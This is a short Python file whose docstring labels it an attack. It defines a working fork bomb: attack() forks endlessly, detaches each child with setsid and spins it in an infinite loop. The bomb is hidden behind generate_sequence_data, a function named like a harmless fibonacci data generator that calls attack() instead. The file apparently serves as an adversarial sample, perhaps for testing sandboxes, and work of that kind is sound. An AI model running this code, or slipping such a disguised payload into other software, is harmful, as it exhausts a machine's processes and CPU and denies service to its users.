"""Attack: forks for ever."""

import os

import numpy as np


def attack():
    count = 0
    try:
        while True:
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
            count += 1
    except OSError:
        return [f"{count} forks"] if count else []


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
